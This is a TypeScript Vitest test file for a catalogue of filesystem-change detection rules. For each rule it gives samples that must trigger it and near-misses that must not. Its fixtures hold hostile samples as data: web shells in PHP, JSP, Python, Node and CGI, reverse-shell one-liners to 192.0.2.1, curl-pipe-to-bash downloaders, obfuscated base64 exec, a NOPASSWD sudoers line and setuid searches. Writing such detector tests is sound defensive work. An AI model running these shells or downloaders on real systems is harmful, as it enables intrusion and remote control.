import { describe, expect, test } from 'vitest';
import { added, changed, deleted, elf, IMAGE } from '../../test/support/subjects.ts';
import { RULES } from './index.ts';
import type { Subject } from './subject.ts';

const WEB = '/var/www/html';
const app = { entrypoint: ['node', 'server.js'], workingDirectory: '/app' };
const rewrite = (path: string, mode = 0o644) =>
  changed(path, { text: 'old text', mode }, { text: 'new text!', mode });

/** For each rule: what it must speak about, and the nearest things that it must leave alone. */
const CASES: Record<string, { fires: Subject[]; silent: Subject[] }> = {
  'php-web-shell': {
    fires: [
      added(`${WEB}/shell.php`, { text: `<?php eval($_GET['shell']); ?>` }),
      changed(`${WEB}/index.php`, { text: '<?php echo 1;' }, { text: `<?php echo 1; system($_POST['x']);` }),
      added(`${WEB}/noextension`, { text: 'x <?php passthru($_GET[1]);' }),
      added('/tmp/sess_abc', { text: `user|s:30:"<?php system($_GET['c']); ?>";` }),
      added('/usr/local/bin/tool', { mode: 0o755, text: '#!/usr/bin/env php\n<?php eval($_REQUEST[0]);' }),
    ],
    silent: [
      added(`${WEB}/page.php`, { text: `<?php echo htmlspecialchars($_GET['q']);` }),
      added('/var/log/apache2/access.log', { text: `GET /?x=<?php eval($_GET['x']);?> HTTP/1.1` }),
      added('/var/lib/mysql/posts.ibd', { bytes: Buffer.from(`\0\0text <?php system($_GET['x']); ?>`) }),
    ],
  },
  'php-obfuscated-code': {
    fires: [added(`${WEB}/x.php`, { text: `<?php eval(gzinflate(base64_decode('abc')));` })],
    silent: [
      added(`${WEB}/x.php`, {
        text: `<?php $logo = base64_decode('iVBORw0KGgo='); header('Content-Type: image/png'); echo $logo;`,
      }),
    ],
  },
  'web-file-dropper': {
    fires: [added(`${WEB}/up.php`, { text: `<?php copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);` })],
    silent: [added(`${WEB}/up.php`, { text: `<?php copy(__DIR__ . '/a.txt', $backup);` })],
  },
  'jsp-web-shell': {
    fires: [
      added('/usr/local/tomcat/webapps/ROOT/c.jsp', {
        text: '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
      }),
    ],
    silent: [added('/usr/local/tomcat/webapps/ROOT/c.jsp', { text: '<%= request.getParameter("c") %>' })],
  },
  'python-web-shell': {
    fires: [added('/app/x.py', { text: `import os\nos.system(request.args['c'])\n` })],
    silent: [
      added('/app/x.py', { text: `name = request.args['c']\nprint(name)\n` }),
      added('/app/x.txt', { text: `os.system(request.args['c'])` }),
    ],
  },
  'node-web-shell': {
    fires: [added('/app/x.js', { text: `app.get('/', (req, res) => res.send(eval(req.query.x)))` })],
    silent: [
      added(`${WEB}/app.min.js`, { text: `!function(e){var t=/a/.exec(e.url);t&&n(e.query)}(window);` }),
    ],
  },
  'cgi-web-shell': {
    fires: [
      added('/usr/lib/cgi-bin/x', { mode: 0o755, text: '#!/bin/sh\necho\neval "$QUERY_STRING"\n' }),
      added('/usr/lib/cgi-bin/x.pl', {
        mode: 0o755,
        text: '#!/usr/bin/perl\nuse CGI;\nsystem(param("c"));\n',
      }),
    ],
    silent: [added('/usr/lib/cgi-bin/x', { mode: 0o755, text: '#!/bin/sh\necho\necho "$QUERY_STRING"\n' })],
  },
  'known-web-shell': {
    fires: [added(`${WEB}/a.php`, { text: '<?php /* b374k 2.8 */ $x = 1;' })],
    silent: [added(`${WEB}/a.php`, { text: '<?php $x = 1;' }), added(`${WEB}/list.txt`, { text: 'b374k' })],
  },
  'disguised-server-code': {
    fires: [
      added(`${WEB}/uploads/cat.jpg`, {
        bytes: Buffer.from('\xff\xd8\xff\xe0\0\0JFIF <?php system($_GET[1]); ?>', 'latin1'),
      }),
      added(`${WEB}/x.php.txt`, { text: '<?php echo 1;' }),
    ],
    silent: [
      added(`${WEB}/uploads/cat.jpg`, { bytes: Buffer.from('\xff\xd8\xff\xe0\0\0JFIF <? \0', 'latin1') }),
      added('/srv/notes/x.txt', { text: '<?php echo 1;' }),
    ],
  },
  'obfuscated-script': {
    fires: [
      added('/tmp/x.sh', { text: 'echo aWQ= | base64 -d | sh\n' }),
      added('/opt/a.py', { text: `exec(base64.b64decode('eA=='))` }),
    ],
    silent: [added('/tmp/x.sh', { text: 'base64 -d < key.b64 > key.bin\n' })],
  },
  'web-content-changed': {
    fires: [
      rewrite(`${WEB}/index.html`),
      rewrite('/usr/share/nginx/html/app.css'),
      rewrite('/home/u/public_html/x.js'),
    ],
    silent: [
      changed(`${WEB}/index.html`, { text: 'same' }, { text: 'same' }),
      rewrite('/etc/motd'),
      added(`${WEB}/index.html`, { text: 'x' }),
    ],
  },
  'web-content-added': {
    fires: [
      added(`${WEB}/hacked.html`, { text: '<h1>owned</h1>' }),
      added('/site/x.png', { text: 'x' }, { ...IMAGE, webRoots: ['/site'] }),
    ],
    silent: [
      added(`${WEB}/dir`, { type: 'dir' }),
      added('/site/x.png', { text: 'x' }),
      added(`${WEB}/x.php`, { text: '<?php' }),
    ],
  },
  'server-code-added': {
    fires: [
      added(`${WEB}/x.php`, { text: '<?php phpinfo();' }),
      added(`${WEB}/x.phtml`),
      added('/usr/lib/cgi-bin/y', { mode: 0o755, text: '#!/bin/sh\n' }),
    ],
    silent: [added(`${WEB}/x.js`, { text: 'let a = 1;' }), added('/opt/x.php', { text: '<?php' })],
  },
  'web-content-deleted': {
    fires: [deleted(`${WEB}/index.html`)],
    silent: [deleted('/opt/readme')],
  },
  'application-code-changed': {
    fires: [
      changed('/app/server.js', { text: 'a' }, { text: 'bb' }, app),
      added('/app/lib/x.js', { text: 'let a = 1;' }, app),
    ],
    silent: [
      added('/app/data.csv', { text: '1,2' }, app),
      changed('/app/server.js', { text: 'a' }, { text: 'bb' }),
      added('/app/logs/x.log', { text: 'l' }, app),
    ],
  },
  'new-executable': {
    fires: [
      added('/tmp/x', { bytes: elf('executable') }),
      added('/tmp/y', { mode: 0o755, bytes: elf('executable') }),
      added('/opt/z', { mode: 0o755, text: 'MZ..' }),
    ],
    silent: [
      added('/tmp/x', { text: 'data' }),
      added('/tmp/l.so', { bytes: elf('library') }),
      changed('/opt/z', { text: 'a', mode: 0o755 }, { text: 'bb' }),
    ],
  },
  'new-shared-library': {
    fires: [
      added('/usr/lib/x.so.1', { bytes: elf('library') }),
      changed('/usr/lib/libc.so.6', { bytes: Buffer.from('old') }, { bytes: elf('library') }),
    ],
    silent: [added('/usr/lib/x', { bytes: elf('executable') }), added('/usr/lib/x.txt', { text: 'x' })],
  },
  'executable-script-added': {
    fires: [
      added('/tmp/x', { mode: 0o755, text: '#!/bin/sh\nid\n' }),
      added('/tmp/y.py', { mode: 0o700, text: 'print(1)\n' }),
    ],
    silent: [
      added('/tmp/x', { text: '#!/bin/sh\nid\n' }),
      added('/tmp/z', { mode: 0o755, bytes: elf('executable') }),
    ],
  },
  'script-added': {
    fires: [
      added('/tmp/x', { text: '#!/bin/sh\nid\n' }),
      added('/var/cache/twig/ab/cd.php', { text: '<?php class T {}' }),
    ],
    silent: [added('/tmp/x', { text: 'id\n' }), added(`${WEB}/x.php`, { text: '<?php' })],
  },
  'script-changed': {
    fires: [changed('/opt/run.sh', { text: 'a' }, { text: 'echo b' })],
    silent: [
      changed('/opt/run.txt', { text: 'a' }, { text: 'echo b' }),
      changed('/usr/bin/run.sh', { text: 'a' }, { text: 'b!' }),
    ],
  },
  'system-binary-changed': {
    fires: [
      changed('/usr/bin/id', { text: 'a', mode: 0o755 }, { bytes: elf('executable') }),
      rewrite('/usr/lib/x86_64-linux-gnu/libz.so.1'),
      rewrite('/etc/update.sh', 0o755),
    ],
    silent: [
      changed('/usr/bin/id', { text: 'a', mode: 0o755 }, { text: 'a' }),
      rewrite('/usr/share/doc/x'),
      rewrite('/opt/x', 0o755),
    ],
  },
  'interpreter-changed': {
    fires: [
      rewrite('/usr/bin/php8.2', 0o755),
      rewrite('/bin/bash', 0o755),
      rewrite('/opt/node/bin/node', 0o755),
      rewrite('/lib64/ld-linux-x86-64.so.2', 0o755),
    ],
    silent: [
      rewrite('/usr/bin/id', 0o755),
      rewrite('/etc/bash'),
      changed('/bin/sh', { text: 'a', mode: 0o755 }, { text: 'a' }),
    ],
  },
  'command-shadowed': {
    fires: [
      added('/usr/local/bin/ls', { type: 'symlink', target: '/tmp/ls' }),
      changed('/usr/bin/awk', { type: 'symlink', target: 'mawk' }, { type: 'symlink', target: '/tmp/a' }),
    ],
    silent: [
      added('/opt/ls', { type: 'symlink', target: '/tmp/ls' }),
      changed('/usr/bin/awk', { type: 'symlink', target: 'mawk' }, { type: 'symlink', target: 'mawk' }),
    ],
  },
  'executable-bit-added': {
    fires: [changed('/opt/x', { text: 'a', mode: 0o644 }, { text: 'a', mode: 0o755 })],
    silent: [
      changed('/opt/x', { text: 'a', mode: 0o644 }, { text: 'a', mode: 0o600 }),
      changed('/opt/x', { text: 'a', mode: 0o711 }, { text: 'a', mode: 0o755 }),
      changed('/opt/d', { type: 'dir', mode: 0o600 }, { type: 'dir', mode: 0o755 }),
    ],
  },
  'setuid-added': {
    fires: [
      added('/tmp/sh', { mode: 0o4755, bytes: elf('executable') }),
      changed('/bin/bash', { mode: 0o755 }, { mode: 0o2755 }),
    ],
    silent: [
      added('/tmp/d', { type: 'dir', mode: 0o2775 }),
      changed('/bin/su', { mode: 0o4755 }, { mode: 0o4755 }),
      changed('/bin/su', { mode: 0o4755 }, { mode: 0o755 }),
    ],
  },
  'setuid-content-changed': {
    fires: [changed('/bin/su', { mode: 0o4755, text: 'a' }, { mode: 0o4755, text: 'bb' })],
    silent: [
      changed('/bin/su', { mode: 0o4755, text: 'a' }, { mode: 0o4755, text: 'a' }),
      rewrite('/bin/ls', 0o755),
    ],
  },
  'file-capabilities-added': {
    fires: [
      added('/tmp/p', { mode: 0o755, capabilities: 'cap_net_raw=ep' }),
      changed('/usr/bin/python3', { mode: 0o755 }, { capabilities: 'cap_setuid=ep' }),
    ],
    silent: [
      changed('/bin/ping', { capabilities: 'cap_net_raw=ep' }, { capabilities: 'cap_net_raw=ep' }),
      added('/tmp/p'),
    ],
  },
  'interpreter-bytecode': {
    fires: [
      added('/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc', {
        bytes: Buffer.from([0xa7, 0x0d, 0, 0]),
      }),
    ],
    silent: [added('/usr/lib/python3/dist-packages/__pycache__', { type: 'dir' })],
  },
  'cron-job': {
    fires: [
      added('/etc/cron.d/x', { text: '* * * * * root id\n' }),
      added('/var/spool/cron/crontabs/root', { text: '* * * * * id\n' }),
      changed('/etc/crontab', { text: 'a' }, { text: 'bb' }),
    ],
    silent: [
      added('/etc/cron.d', { type: 'dir' }),
      added('/etc/cron.dx'),
      changed('/etc/cron.d', { type: 'dir' }, { type: 'dir' }),
    ],
  },
  'at-job': {
    fires: [added('/var/spool/cron/atjobs/a0001', { text: 'id' })],
    silent: [added('/var/spool/mail/root')],
  },
  'systemd-unit': {
    fires: [
      added('/etc/systemd/system/x.service', { text: '[Service]' }),
      added('/home/u/.config/systemd/user/x.timer'),
    ],
    silent: [added('/var/lib/systemd/random-seed')],
  },
  'init-script': {
    fires: [
      added('/etc/init.d/x', { mode: 0o755, text: '#!/bin/sh\n' }),
      added('/etc/rc.local'),
      added('/etc/rc2.d/S01x', { type: 'symlink', target: '../init.d/x' }),
      added('/docker-entrypoint.d/99-x.sh'),
    ],
    silent: [added('/etc/initramfs'), added('/etc/rcfile')],
  },
  'shell-profile': {
    fires: [
      changed('/root/.bashrc', { text: 'a' }, { text: 'bb' }),
      added('/etc/profile.d/x.sh', { text: 'id' }),
      added('/home/u/.zshrc'),
    ],
    silent: [added('/root/.bash_history', { text: 'id' }), added('/home/u/bashrc')],
  },
  'ssh-authorized-keys': {
    fires: [
      added('/root/.ssh/authorized_keys', { text: 'ssh-ed25519 AAAA' }),
      added('/var/lib/postgresql/.ssh/authorized_keys'),
      added('/home/u/.ssh/rc'),
    ],
    silent: [added('/root/.ssh/known_hosts'), added('/root/authorized_keys')],
  },
  'ssh-keys': {
    fires: [added('/root/.ssh/id_ed25519'), added('/home/u/.ssh/config')],
    silent: [added('/root/.ssh', { type: 'dir' }), added('/root/.ssh/authorized_keys')],
  },
  'sshd-configuration': {
    fires: [
      changed('/etc/ssh/sshd_config', { text: 'a' }, { text: 'bb' }),
      added('/etc/ssh/ssh_host_rsa_key'),
    ],
    silent: [added('/etc/sshx')],
  },
  'account-changed': {
    fires: [
      changed('/etc/passwd', { text: 'a' }, { text: 'bb' }),
      changed('/etc/shadow', { text: 'a' }, { text: 'bb' }),
      added('/etc/passwd-'),
    ],
    silent: [added('/etc/passwdx'), added('/opt/etc/passwd')],
  },
  'sudoers-changed': {
    fires: [
      added('/etc/sudoers.d/x', { text: 'u ALL=(ALL) NOPASSWD: ALL' }),
      changed('/etc/sudoers', { text: 'a' }, { text: 'bb' }),
    ],
    silent: [added('/etc/sudoersx')],
  },
  'ld-preload': {
    fires: [added('/etc/ld.so.preload', { text: '/tmp/x.so' })],
    silent: [added('/etc/ld.so.conf')],
  },
  'loader-configuration': {
    fires: [added('/etc/ld.so.conf.d/x.conf'), changed('/etc/ld.so.cache', { text: 'a' }, { text: 'bb' })],
    silent: [added('/etc/ld.so.preload')],
  },
  'pam-changed': {
    fires: [
      changed('/etc/pam.d/su', { text: 'a' }, { text: 'bb' }),
      added('/lib/x86_64-linux-gnu/security/pam_x.so', { bytes: elf('library') }),
    ],
    silent: [added('/etc/pam')],
  },
  'name-service-changed': {
    fires: [changed('/etc/nsswitch.conf', { text: 'a' }, { text: 'bb' })],
    silent: [added('/etc/hosts')],
  },
  'trust-store-changed': {
    fires: [added('/usr/local/share/ca-certificates/x.crt', { text: 'PEM' }), added('/etc/ssl/certs/x.pem')],
    silent: [added('/etc/ssl/private/x.key')],
  },
  'kernel-module': {
    fires: [added('/lib/modules/6.1/x.ko', { bytes: elf('library') }), added('/tmp/rootkit.ko')],
    silent: [added('/lib/modulesx'), added('/tmp/x.kod')],
  },
  'kernel-facing-file': {
    fires: [added('/etc/sysctl.d/x.conf'), added('/tmp/cg/release_agent', { text: '/x' })],
    silent: [added('/etc/sysctlx')],
  },
  'interpreter-startup': {
    fires: [
      added('/usr/lib/python3/dist-packages/x.pth', { text: 'import os' }),
      added('/usr/lib/python3.11/sitecustomize.py'),
    ],
    silent: [added('/opt/model.pth', { text: 'x' }), added('/usr/lib/python3/dist-packages/x.txt')],
  },
  'web-server-configuration': {
    fires: [
      added(`${WEB}/.htaccess`, { text: 'AddHandler php .jpg' }),
      changed('/etc/nginx/nginx.conf', { text: 'a' }, { text: 'bb' }),
      added('/etc/apache2/conf-enabled/x.conf'),
    ],
    silent: [added('/etc/nginxx/y'), changed('/etc/nginx', { type: 'dir' }, { type: 'dir' })],
  },
  'php-configuration': {
    fires: [
      added(`${WEB}/.user.ini`, { text: 'auto_prepend_file = /tmp/x' }),
      changed('/etc/php/8.2/apache2/php.ini', { text: 'a' }, { text: 'bb' }),
    ],
    silent: [added('/etc/phpx'), added(`${WEB}/user.ini`)],
  },
  'package-manager-ran': {
    fires: [
      changed('/var/lib/dpkg/status', { text: 'a' }, { text: 'bb' }),
      added('/usr/lib/python3/dist-packages/x-1.dist-info/RECORD'),
      added('/root/.npm/_logs/x.log'),
      added('/var/log/apt/history.log', { text: 'Start-Date' }),
      changed('/lib/apk/db/installed', { text: 'a' }, { text: 'bb' }),
      added('/var/lib/rpm/rpmdb.sqlite'),
    ],
    silent: [added('/var/lib/redis/dump.rdb'), changed('/var/lib/dpkg', { type: 'dir' }, { type: 'dir' })],
  },
  'entrypoint-changed': {
    fires: [
      rewrite('/usr/sbin/apache2', 0o755),
      deleted('/usr/sbin/apache2'),
      changed('/app/server.js', { text: 'a' }, { text: 'bb' }, app),
      changed('/usr/local/bin/node', { text: 'a', mode: 0o755 }, { text: 'bb' }, app),
      changed(
        '/docker-entrypoint.sh',
        { text: 'a' },
        { text: 'bb' },
        { entrypoint: ['/docker-entrypoint.sh', 'nginx'], workingDirectory: '/' },
      ),
    ],
    silent: [
      rewrite('/usr/sbin/a2enmod', 0o755),
      changed('/app/other.js', { text: 'a' }, { text: 'bb' }, app),
      changed('/usr/sbin/apache2', { text: 'a' }, { text: 'a' }),
    ],
  },
  'device-node': {
    fires: [
      added('/tmp/sda', { type: 'block', device: { major: 8, minor: 0 } }),
      added('/tmp/mem', { type: 'char', device: { major: 1, minor: 1 } }),
    ],
    silent: [added('/tmp/pipe', { type: 'fifo' }), added('/tmp/file')],
  },
  'link-to-sensitive-place': {
    fires: [
      added(`${WEB}/root`, { type: 'symlink', target: '/' }),
      added(`${WEB}/x.txt`, { type: 'symlink', target: '../../../etc/shadow' }),
      added('/var/log/apache2/error.log', { type: 'symlink', target: '/etc/passwd' }),
      added('/tmp/x', { type: 'symlink', target: '/var/run/docker.sock' }),
      added('/tmp/y', { type: 'symlink', target: '/proc/1/root' }),
    ],
    silent: [
      added('/var/log/nginx/access.log', { type: 'symlink', target: '/dev/stdout' }),
      added('/tmp/current', { type: 'symlink', target: 'a/b' }),
      added('/usr/share/x', { type: 'symlink', target: '/dev/null' }),
    ],
  },
  'file-replaced-by-link': {
    fires: [changed('/etc/hostconfig', { text: 'a' }, { type: 'symlink', target: '/tmp/x' })],
    silent: [
      changed('/etc/alternatives/x', { type: 'symlink', target: 'a' }, { type: 'symlink', target: 'b' }),
      added('/opt/x', { type: 'symlink', target: 'y' }),
    ],
  },
  'image-file-deleted': {
    fires: [deleted('/etc/motd'), deleted('/usr/bin/id', { mode: 0o755 })],
    silent: [deleted(`${WEB}/x.html`), added('/etc/motd')],
  },
  'permissions-loosened': {
    fires: [
      changed('/etc/x', { mode: 0o644 }, { mode: 0o666 }),
      changed('/etc/ssl/private/x.key', { mode: 0o600 }, { mode: 0o644 }),
      changed('/opt', { type: 'dir', mode: 0o755 }, { type: 'dir', mode: 0o777 }),
    ],
    silent: [
      changed('/etc/x', { mode: 0o666 }, { mode: 0o644 }),
      changed('/opt/t', { type: 'dir', mode: 0o755 }, { type: 'dir', mode: 0o1777 }),
      changed('/etc/x', { mode: 0o640 }, { mode: 0o644 }),
    ],
  },
  'log-lost-lines': {
    fires: [
      changed('/var/log/auth.log', { size: 100 }, { size: 0 }),
      deleted('/var/log/auth.log', { size: 100 }),
      changed('/var/log/auth.log', { size: 100 }, { type: 'symlink', target: '/dev/null' }),
      changed('/var/log/wtmp', { size: 100 }, { size: 10 }),
    ],
    silent: [
      changed('/var/log/auth.log', { size: 100 }, { size: 200 }),
      changed('/var/log/auth.log', { size: 0 }, { size: 0 }),
      { ...changed('/var/log/auth.log', { size: 100 }, { size: 0 }), rotatedTo: '/var/log/auth.log.1' },
      changed('/etc/motd', { size: 100 }, { size: 0 }),
    ],
  },
  'shell-history-cleared': {
    fires: [
      deleted('/root/.bash_history', { size: 10 }),
      added('/root/.bash_history', { type: 'symlink', target: '/dev/null' }),
      changed('/root/.bash_history', { size: 10 }, { size: 0 }),
    ],
    silent: [added('/root/.bash_history', { text: 'id' }), deleted('/root/history')],
  },
  'shell-history': {
    fires: [
      added('/root/.bash_history', { text: 'id' }),
      added('/var/lib/postgresql/.psql_history', { text: 'select 1;' }),
      changed('/root/.ash_history', { size: 10 }, { size: 20 }),
    ],
    silent: [deleted('/root/.bash_history'), added('/root/.bash_historyx')],
  },
  'hidden-name': {
    fires: [
      added('/tmp/.x', { text: 'a' }),
      added('/dev/shm/.a/b', { text: 'x' }),
      added('/usr/lib/.cache', { type: 'dir' }),
      added(`${WEB}/.env`, { text: 'x' }),
    ],
    silent: [
      added('/root/.config', { text: 'a' }),
      added(`${WEB}/.htaccess`),
      added('/tmp/.X11-unix', { type: 'dir' }),
      added('/tmp/x.y'),
    ],
  },
  'deceptive-name': {
    fires: [
      added('/tmp/...', { type: 'dir' }),
      added('/tmp/ ', { text: 'x' }),
      added('/tmp/.. ', { type: 'dir' }),
      added('/tmp/a\u202egpj.sh'),
      added('/tmp/a\u001b[2J'),
      added('/tmp/a\udc80'),
      added('/tmp/ls '),
      added('/tmp/l\u200bs'),
    ],
    silent: [added('/tmp/..a'), added('/tmp/a b'), added('/tmp/ünïcode'), added('/tmp/日本語.txt')],
  },
  'modification-time-kept': {
    fires: [
      changed('/usr/bin/id', { text: 'a' }, { text: 'bb', mtime: '1700000000.123456789' }),
      changed('/opt/x', { text: 'a' }, { text: 'bb', mtime: '1600000000.000000000' }),
    ],
    silent: [
      changed('/etc/passwd-', { text: 'a' }, { text: 'bb', mtime: '1600000000.000000000' }),
      rewrite('/opt/x'),
      changed(
        '/opt/x',
        { text: 'a', mode: 0o600 },
        { text: 'a', mode: 0o644, mtime: '1700000000.123456789' },
      ),
    ],
  },
  'backdated-code': {
    fires: [added('/tmp/x.sh', { text: 'id', mtime: '1500000000.000000000' })],
    silent: [
      added('/tmp/x.sh', { text: 'id' }),
      added('/tmp/x.txt', { text: 'id', mtime: '1500000000.000000000' }),
    ],
  },
  'backdated-file': {
    fires: [added('/opt/x.txt', { text: 'id', mtime: '1500000000.000000000' })],
    silent: [
      added('/opt/x.txt', { text: 'id', mtime: '1500000000.123000000' }),
      added('/opt/x.txt', { text: 'id' }),
      added('/tmp/x.sh', { text: 'id', mtime: '1500000000.000000000' }),
    ],
  },
  'reverse-shell': {
    fires: [
      added('/tmp/x.sh', { text: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' }),
      added('/tmp/y.sh', { text: 'nc -e /bin/sh 192.0.2.1 4444' }),
      added('/tmp/z.sh', {
        text: 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
      }),
      added('/tmp/p.py', {
        text: 'import socket,os,subprocess\ns=socket.socket()\ns.connect(("h",1))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])',
      }),
      added('/tmp/p.pl', {
        text: 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");',
      }),
      added('/tmp/s.sh', { text: 'socat tcp-connect:192.0.2.1:1 exec:/bin/sh,pty' }),
    ],
    silent: [
      added('/opt/wait.sh', { text: '#!/bin/sh\nuntil nc -z db 5432; do sleep 1; done\n' }),
      added('/opt/notes.txt', { text: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' }),
    ],
  },
  cryptominer: {
    fires: [
      added('/opt/config.json', { text: '{"url": "stratum+tcp://pool:3333"}' }),
      added('/tmp/k', { bytes: Buffer.concat([elf('executable'), Buffer.from('xmrig')]) }),
    ],
    silent: [added('/opt/config.json', { text: '{"url": "tcp://pool:3333"}' })],
  },
  'download-and-run': {
    fires: [
      added('/tmp/x.sh', { text: 'curl -fsSL http://192.0.2.1/i | bash' }),
      added('/tmp/x.sh', { text: 'wget -qO- http://192.0.2.1/i | sudo sh' }),
      added('/tmp/x.sh', { text: 'curl -o /tmp/a http://192.0.2.1/a\nchmod +x /tmp/a && /tmp/a' }),
      added('/tmp/x.sh', { text: 'bash <(curl -s http://192.0.2.1/i)' }),
      added('/tmp/x.sh', { text: 'eval "$(curl -s http://192.0.2.1/i)"' }),
    ],
    silent: [
      added('/opt/health.sh', { text: 'curl -fsS http://127.0.0.1/health | grep -q ok' }),
      added('/opt/get.sh', { text: 'wget -q http://mirror/file.tar.gz' }),
    ],
  },
  'reconnaissance-script': {
    fires: [
      added('/tmp/l.sh', { text: '# linpeas\nid' }),
      added('/tmp/f.sh', { text: 'find / -perm -4000 -type f 2>/dev/null' }),
    ],
    silent: [added('/tmp/f.sh', { text: 'find /var -name "*.tmp" -perm 644 -delete' })],
  },
  'unexplained-binary': {
    fires: [added('/opt/blob', { bytes: Buffer.from([0, 1, 2, 3]) })],
    silent: [added('/opt/text', { text: 'words' }), added('/opt/dir', { type: 'dir' })],
  },
  'unexplained-drift': {
    fires: [added('/opt/text', { text: 'words' }), added('/opt/dir', { type: 'dir' })],
    silent: [added('/opt/blob', { bytes: Buffer.from([0, 1, 2, 3]) })],
  },
};

describe('every rule of the catalogue', () => {
  test('has cases for firing and for keeping silent, and no other has', () => {
    expect(Object.keys(CASES).sort()).toEqual(RULES.map(({ id }) => id).sort());
    expect(
      Object.entries(CASES).filter(([, { fires, silent }]) => fires.length === 0 || silent.length === 0),
    ).toEqual([]);
  });

  test('has a kebab-case id of its own, a title, an explanation and ATT&CK ids of the right form', () => {
    expect(new Set(RULES.map(({ id }) => id)).size).toBe(RULES.length);
    for (const { id, title, explanation, attack, fallback } of RULES) {
      expect(id).toMatch(/^[a-z]+(-[a-z]+)*$/);
      expect([title, explanation].every((text) => text.length > 5)).toBe(true);
      expect(attack.every((technique) => /^T\d{4}(\.\d{3})?$/.test(technique))).toBe(true);
      expect(attack.length > 0 || fallback === true).toBe(true);
    }
  });

  test('there are at least 25', () => expect(RULES.length).toBeGreaterThanOrEqual(25));

  for (const rule of RULES) {
    const { fires, silent } = CASES[rule.id] ?? { fires: [], silent: [] };
    test.each(fires.map((subject): [string, Subject] => [subject.change.path, subject]))(
      `${rule.id} fires on %s`,
      (_, subject) => {
        expect(rule.match(subject)).toMatch(/^.+\.$/);
      },
    );
    test.each(silent.map((subject): [string, Subject] => [subject.change.path, subject]))(
      `${rule.id} keeps silent on %s`,
      (_, subject) => {
        expect(rule.match(subject)).toBeNull();
      },
    );
  }
});
